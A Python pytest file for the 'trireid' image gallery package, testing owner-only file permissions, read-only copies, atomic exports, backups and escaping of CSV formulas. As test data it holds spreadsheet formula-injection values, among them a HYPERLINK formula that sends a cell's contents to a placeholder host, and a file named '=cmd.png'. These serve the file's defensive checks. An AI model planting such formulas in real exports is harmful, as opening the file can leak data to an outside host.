"""A gallery's files: their owner's alone, read-only copies as they are, and exports that are whole
or not there.
"""

from __future__ import annotations

import csv
import errno
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

import trireid.cli
from tests.conftest import ROOT, encode_image, make_sample
from trireid.gallery import Gallery, index_source
from trireid.gallery.backup import back_up
from trireid.gallery.checking import check
from trireid.gallery.exporting import EMBEDDINGS, MANIFEST, export
from trireid.gallery.stats import stats
from trireid.gallery.store import FILE
from trireid.inference import Embedder
from trireid.samples import GalleryError, Sample
from trireid.samples.sources import open_source

SOMEBODY = 65_534


@pytest.fixture(params=[0o022, 0o000, 0o777], ids=oct)
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    before = os.umask(request.param)
    yield request.param
    os.umask(before)


def assert_private(folder: Path) -> None:
    for path in (folder, *folder.rglob("*")):
        assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600), path


def test_what_a_gallery_writes_is_its_owners_alone(
    tmp_path: Path, embedder: Embedder, umask: int
) -> None:
    folder = tmp_path / "a.gallery"
    (tmp_path / "empty").mkdir(0o755)
    os.chmod(tmp_path / "empty", 0o755)
    with Gallery.open(folder, embedder) as gallery:
        gallery.add([make_sample(0, id="a")], keep=True)
        gallery.save_index()
        source = tmp_path / "m.csv"
        source.touch(0o600)
        os.chmod(source, 0o600)
        source.write_text("rgb\ngone.png\n")
        assert index_source(open_source(str(source)), gallery).path is not None
        assert {path.name for path in folder.iterdir()} >= {
            FILE,
            f"{FILE}-wal",
            "gallery.index",
            "reports",
        }
        assert_private(folder)
        export(folder, tmp_path / "out")
        export(folder, tmp_path / "empty")
        back_up(folder, tmp_path / "new" / "of its own" / "backup")
        gallery.compact()
        assert_private(folder)
    for written in ("a.gallery", "out", "empty", "new"):
        assert_private(tmp_path / written)


def test_an_existing_gallery_with_wider_rights_is_left_so_and_warned_of(
    tmp_path: Path, embedder: Embedder, caplog: pytest.LogCaptureFixture
) -> None:
    folder = tmp_path / "a b.gallery"
    Gallery.open(folder, embedder).close()
    (folder / FILE).chmod(0o644)
    caplog.clear()
    for _ in range(2):
        Gallery.open(folder).close()
        stats(folder)
    # In this process the gallery was warned of, or not, when it was made.
    code = "import sys, gallery.stats as s, pathlib; p = pathlib.Path(sys.argv[1]); s.stats(p); s.stats(p)"
    done = subprocess.run(
        [sys.executable, "-c", code, str(folder)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stderr.count("\n") == 1
    assert f"chmod -R go= '{folder}'" in done.stderr
    assert (folder / FILE).stat().st_mode & 0o777 == 0o644


def lock(folder: Path) -> None:
    """Take the rights to write from everybody, root included: see
    `trireid.gallery.opening.is_read_only`.
    """
    for path in (*folder.rglob("*"), folder):
        path.chmod(0o555 if path.is_dir() else 0o444)


def unlock(folder: Path) -> None:
    for path in (folder, *folder.rglob("*")):
        path.chmod(0o755 if path.is_dir() else 0o644)


@pytest.fixture
def copy(tmp_path: Path, embedder: Embedder) -> Iterator[Path]:
    """A read-only copy of a gallery."""
    folder = tmp_path / "a.gallery"
    with Gallery.open(folder, embedder) as gallery:
        gallery.add([make_sample(n, id=f"i{n}", identity=f"p{n % 2}") for n in range(4)], keep=True)
        gallery.save_index()
    lock(folder)
    yield folder
    unlock(folder)


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def test_a_read_only_copy_can_be_read_and_stays_as_it_is(copy: Path, tmp_path: Path) -> None:
    before = contents(copy)
    with Gallery.open(copy) as gallery:
        assert gallery.search(make_sample(2), k=1)[0].id == "i2"
        for change in (
            lambda: gallery.add([make_sample(9)]),
            lambda: gallery.remove(ids=["i1"]),
            gallery.compact,
            lambda: gallery.remove_older(1),
            lambda: index_source(open_source("synthetic:person:1"), gallery),
        ):
            with pytest.raises(
                GalleryError, match="is read-only; give its folder and files rights"
            ) as error:
                change()
            assert error.value.code == "read_only"
        assert len(gallery) == 4
    assert stats(copy)["items"] == 4
    report = check(copy)
    assert (report.items, report.readable, report.errors) == (4, 4, [])
    assert export(copy, tmp_path / "out") == 4
    assert back_up(copy, tmp_path / "backup") == 4
    with pytest.raises(GalleryError, match="is read-only"):
        Gallery.open(copy, memory="int8")
    assert contents(copy) == before
    assert not check(tmp_path / "backup").errors


def test_a_damaged_index_of_a_read_only_copy_is_passed_over(copy: Path) -> None:
    (copy / "gallery.index").chmod(0o644)
    (copy / "gallery.index").write_bytes(b"nothing")
    (copy / "gallery.index").chmod(0o444)
    with Gallery.open(copy) as gallery:
        assert gallery.search(make_sample(2), k=1)[0].id == "i2"


def test_a_read_only_copy_whose_log_holds_changes_is_not_read_without_them(
    tmp_path: Path, embedder: Embedder
) -> None:
    folder, taken = tmp_path / "a.gallery", tmp_path / "copy.gallery"
    with Gallery.open(folder, embedder) as gallery:
        gallery.add([make_sample(0, id="a")], keep=True)
        taken.mkdir()
        for name in (FILE, f"{FILE}-wal"):
            (taken / name).write_bytes((folder / name).read_bytes())
    lock(taken)
    with pytest.raises(
        GalleryError, match=r"gallery\.db-wal holds changes that a read-only copy cannot take in"
    ):
        Gallery.open(taken)
    unlock(taken)
    with Gallery.open(taken) as gallery:
        assert len(gallery) == 1


def test_what_a_killed_export_left_is_named(tmp_path: Path, embedder: Embedder) -> None:
    Gallery.open(tmp_path / "a.gallery", embedder).close()
    (tmp_path / "out" / ".draft-x1").mkdir(parents=True)
    with pytest.raises(
        GalleryError,
        match=r"out: holds \.draft-x1 of an export that runs or was interrupted; delete it",
    ):
        export(tmp_path / "a.gallery", tmp_path / "out")


def test_one_who_may_only_read_sees_what_another_writes(tmp_path: Path, embedder: Embedder) -> None:
    folder = tmp_path / "a.gallery"
    with Gallery.open(folder, embedder) as writing:
        writing.add([make_sample(0, id="a")], keep=True)
        lock(folder)
        with Gallery.open(folder) as reading:
            assert [hit.id for hit in reading.search(make_sample(0), k=5)] == ["a"]
            writing.add([make_sample(1, id="b")], keep=True)
            assert reading.search(make_sample(1), k=1)[0].id == "b"
            with pytest.raises(GalleryError, match="is read-only"):
                reading.remove(ids=["a"])
        unlock(folder)


@pytest.mark.skipif(
    os.name != "posix" or os.geteuid() != 0, reason="only root can act as another user"
)
def test_another_user_who_may_only_read_can_search(copy: Path, artifact: Path) -> None:
    code = """
import os, sys
os.setgid(65534), os.setuid(65534)
from pathlib import Path
from trireid.gallery.checking import check
from trireid.gallery.stats import stats
from trireid.gallery.store import Store
folder = Path(sys.argv[1])
assert Store(folder).read_only
print(stats(folder)["items"], check(folder).errors)
"""
    unlock(copy)
    for parent in (copy, *copy.parents):
        if parent.stat().st_uid == os.getuid() and str(parent) != "/":
            parent.chmod(parent.stat().st_mode | 0o055)
    done = subprocess.run(
        [sys.executable, "-c", code, str(copy)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    if "ModuleNotFoundError" in done.stderr or "PermissionError" in done.stderr:
        pytest.skip("another user cannot read this checkout")
    assert done.stdout == "4 []\n", done.stderr


def test_check_opens_a_store_as_everything_else_does(tmp_path: Path, embedder: Embedder) -> None:
    folder = tmp_path / "a.gallery"
    with Gallery.open(folder, embedder) as gallery:
        gallery.add([make_sample(0, id="a")], keep=True)
        gallery._writer.run("UPDATE meta SET value = '99' WHERE name = 'version'")
    for use in (check, stats, Gallery.open):
        with pytest.raises(GalleryError, match="its store has version 99, this trireid reads 3"):
            use(folder)


ATTRIBUTES = {
    "formula": '=HYPERLINK("http://there/?"&A1)',
    "plus": "+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\t=1",
    "return": "\r=1",
    "quote": "'=1",
    "blank": "",
    "space": " x ",
    "text number": "007",
    "text true": "true",
    "number": -1.5,
    "whole": 12,
    "yes": True,
    "=name": "x",
    " name": "y",
    "ids": "near a field's name",
    "role": "query",
    "Unnamed: 0": 3,
    "e\u0301": "decomposed",
    "text": "NA",
}


def test_an_export_reads_back_exactly_and_opens_no_formula(
    tmp_path: Path, embedder: Embedder
) -> None:
    known = {"identity": "=Ann", "scene": "+s", "purpose": "@p", "camera": -3, "id": "-1"}
    with Gallery.open(tmp_path / "a.gallery", embedder) as gallery:
        gallery.add([make_sample(0, **known, attributes=ATTRIBUTES)], keep=True)
    export(tmp_path / "a.gallery", tmp_path / "out")
    with (tmp_path / "out" / MANIFEST).open(newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r", "-"))] == [
        "-3",
        "-1.5",
    ]
    (entry,) = open_source(str(tmp_path / "out" / MANIFEST))
    assert entry.sample is not None, entry.error
    assert {name: getattr(entry.sample, name) for name in known} == known
    assert dict(entry.sample.attributes) == {
        "\u00e9" if name == "e\u0301" else name: ATTRIBUTES[name] for name in ATTRIBUTES
    }


def test_attributes_of_an_older_store_do_not_become_fields(
    tmp_path: Path, embedder: Embedder
) -> None:
    folder, forged = (
        tmp_path / "a.gallery",
        {"nir": "/home/me/secret.png", "identity": "FORGED", "Identity": 1, "": 2},
    )
    forged |= {"nir'": "x", "\u00e9": "composed", "e\u0301": "decomposed"}
    with Gallery.open(folder, embedder) as gallery:
        gallery.add([make_sample(0, id="a", identity="Ann")], keep=True)
        gallery.add(
            [
                Sample(
                    id="b", rgb=encode_image(7), attributes={"attribute_nir": "own", "digits": "1"}
                )
            ],
            keep=True,
        )
        text = json.dumps({**forged, "digits": int("7" * 400)})
        gallery._writer.run("UPDATE items SET attributes = ? WHERE id = 'a'", [text])
    export(folder, tmp_path / "out")
    first, second = (entry.sample for entry in open_source(str(tmp_path / "out" / MANIFEST)))
    assert first is not None
    assert second is not None
    assert (first.identity, second.identity, second.present) == ("Ann", None, ("rgb",))
    assert first.attributes == {
        "attribute_nir_": "/home/me/secret.png",
        "attribute_identity": "FORGED",
        "attribute_Identity": 1,
        "attribute_": 2,
        "attribute_nir'": "x",
        "\u00e9_": "composed",
        "\u00e9": "decomposed",
        "digits": "7" * 400,
    }
    assert second.attributes == {"attribute_nir": "own", "digits": "1"}
    with Gallery.open(tmp_path / "again.gallery", embedder) as again:
        assert index_source(open_source(str(tmp_path / "out" / MANIFEST)), again).added == 2


@pytest.mark.parametrize("failing", ["os.fsync", "os.rename", "numpy.save"])
@pytest.mark.parametrize("is_there", [False, True])
def test_an_export_that_fails_leaves_nothing(
    tmp_path: Path,
    embedder: Embedder,
    failing: str,
    is_there: bool,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    folder, out = tmp_path / "a.gallery", tmp_path / "out"
    with Gallery.open(folder, embedder) as gallery:
        gallery.add([make_sample(n) for n in range(2)], keep=True)
    if is_there:
        out.mkdir()
    calls: list[object] = []

    def fail(*arguments: object, **_: object) -> None:
        calls.append(arguments)
        if len(calls) >= 2 or failing == "numpy.save":
            raise OSError(errno.ENOSPC, "No space left on device", str(out))

    monkeypatch.setattr(failing, fail)
    with pytest.raises(OSError, match="No space left"):
        export(folder, out)
    monkeypatch.undo()
    assert out.exists() == is_there
    assert not is_there or not list(out.iterdir())


def test_exported_images_are_flushed_before_the_manifest_is_there(
    tmp_path: Path, embedder: Embedder, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder, out = tmp_path / "a.gallery", tmp_path / "out"
    with Gallery.open(folder, embedder) as gallery:
        gallery.add([make_sample(0)], keep=True)
    flushed: list[str] = []
    fsync, rename = os.fsync, os.rename

    def record(descriptor: int) -> None:
        flushed.append(os.readlink(f"/proc/self/fd/{descriptor}"))
        fsync(descriptor)

    def check_manifest(source: object, target: object) -> None:
        if str(target).endswith(MANIFEST):
            images = {path for path in flushed if path.endswith(".png")}
            assert len(images) == 3
            assert {str(Path(path).parent) for path in images} <= set(flushed)
            assert str(out) in flushed
        rename(source, target)  # type: ignore[arg-type]

    monkeypatch.setattr("os.fsync", record)
    monkeypatch.setattr("os.rename", check_manifest)
    export(folder, out)
    assert any(path.endswith(EMBEDDINGS) for path in flushed)
    assert len(np.load(out / EMBEDDINGS)) == 1


def test_an_export_says_how_to_index_it_again(
    tmp_path: Path, embedder: Embedder, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "a.png").write_bytes(encode_image(1))
    with Gallery.open(tmp_path / "a.gallery", embedder) as gallery:
        gallery.add([Sample(id="a", rgb=tmp_path / "a.png")])
    assert (
        trireid.cli.main(
            ["gallery", "export", str(tmp_path / "a.gallery"), "-o", str(tmp_path / "out")]
        )
        == 0
    )
    assert f"trireid index {tmp_path / 'out' / MANIFEST} --allow-outside" in capsys.readouterr().out
    (entry,) = open_source(str(tmp_path / "out" / MANIFEST), allow_outside=True)
    assert entry.sample is not None


def test_a_backup_is_taken_while_others_write(tmp_path: Path, embedder: Embedder) -> None:
    with Gallery.open(tmp_path / "a.gallery", embedder) as gallery:
        gallery.add([make_sample(n, id=f"i{n}") for n in range(3)], keep=True)
        assert back_up(tmp_path / "a.gallery", tmp_path / "b.gallery") == 3
        gallery.add([make_sample(4)])
    with pytest.raises(GalleryError, match="is there already"):
        back_up(tmp_path / "a.gallery", tmp_path / "b.gallery")
    assert not check(tmp_path / "b.gallery").errors
    with Gallery.open(tmp_path / "b.gallery") as copy:
        assert copy.search(make_sample(2), k=1)[0].id == "i2"


def test_a_report_of_an_import_opens_no_formula_and_stays_in_the_gallery(
    tmp_path: Path, gallery: Gallery
) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "=cmd.png").write_bytes(b"no image")
    (tmp_path / "in" / "a.png").write_bytes(encode_image(1))
    report = index_source(open_source(str(tmp_path / "in")), gallery)
    assert report.path is not None
    with report.path.open(newline="") as file:
        assert not any(cell.startswith("=") for line in csv.reader(file) for cell in line)
    report.path.unlink()
    report.path.parent.rmdir()
    (tmp_path / "elsewhere").mkdir()
    report.path.parent.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(GalleryError, match="is a symbolic link"):
        index_source(open_source(str(tmp_path / "in")), gallery)
    assert not list((tmp_path / "elsewhere").iterdir())
